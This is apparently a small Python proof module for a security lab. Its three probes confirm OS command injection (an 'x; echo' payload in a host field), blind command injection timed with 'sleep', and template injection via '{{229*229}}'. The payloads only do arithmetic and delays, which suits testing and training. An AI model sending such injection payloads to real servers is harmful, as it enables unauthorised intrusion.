"""Exploits of what the server executes."""

from lab.client import Lab, shortest


async def _output(lab: Lab) -> bool:
    return "result-714" in (await lab.get("/tools/lookup", host="x; echo result-$((700+14))")).text


async def _blind(lab: Lab) -> bool:
    slow = await shortest(lambda: lab.post("/tools/convert", file="x; sleep 1.5;"))
    return slow - await shortest(lambda: lab.post("/tools/convert", file="x; sleep 0;")) > 0.9


async def _template(lab: Lab) -> bool:
    return "Dear 52441," in (await lab.get("/cards/preview", name="{{229*229}}")).text


PROOFS = {"command-output": _output, "command-blind": _blind, "ssti": _template}
